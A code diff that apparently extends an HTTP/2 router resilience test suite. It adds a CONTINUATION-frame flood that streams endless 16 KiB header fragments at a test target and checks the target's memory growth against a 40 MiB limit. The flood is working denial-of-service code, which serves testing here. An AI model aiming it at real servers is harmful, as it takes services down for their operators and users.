@@ -6,6 +6,7 @@ import time
 import frames
 from attacks import LOCALIZE, many_connections, many_streams, rapid_reset
 from download_attacks import begin_downloads
+from request_attacks import process_state
 
 
 def deadly_headers(case):
@@ -28,6 +29,28 @@ def hpack_flood(case):
         connection.sendall(frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block))
 
     _calls(case, call)
+
+
+def continuation_flood(case):
+    """Headers that never end: CONTINUATION frames of 16 KiB, on one connection after the other. gRPC
+    1.51 alone keeps twice what is sent for as long as the connection lasts."""
+    begin = frames.frame(frames.HEADERS, 0, 1, frames.call_headers(LOCALIZE))
+    field = b"\x00\x01a" + b"\x7f" + _number(16_128 - 127) + b"v" * 16_128
+    more = frames.frame(frames.CONTINUATION, 0, 1, field) * 4
+    with case.with_town() as target:
+        before, sent = process_state(target)[0], 0
+        with case.meanwhile(target):
+            end = time.monotonic() + case.seconds
+            while time.monotonic() < end:
+                with contextlib.suppress(OSError), \
+                        contextlib.closing(frames.connect(target.address)) as connection:
+                    connection.sendall(begin)
+                    while time.monotonic() < end:
+                        connection.sendall(more)
+                        sent += len(more)
+        case.figures["MB sent"] = round(sent / 1e6)
+        case.figures["MiB more"] = process_state(target)[0] - before
+        case.expect(case.figures["MiB more"] <= 40, f"it took {case.figures['MiB more']} MiB")
 
 
 def _number(value):
@@ -67,5 +90,5 @@ def slow_readers(case):
             time.sleep(case.seconds)
 
 
-ROUTER_ATTACKS = [deadly_headers, hpack_flood, slow_readers, rapid_reset, many_streams,
-                  many_connections]
+ROUTER_ATTACKS = [deadly_headers, hpack_flood, continuation_flood, slow_readers, rapid_reset,
+                  many_streams, many_connections]
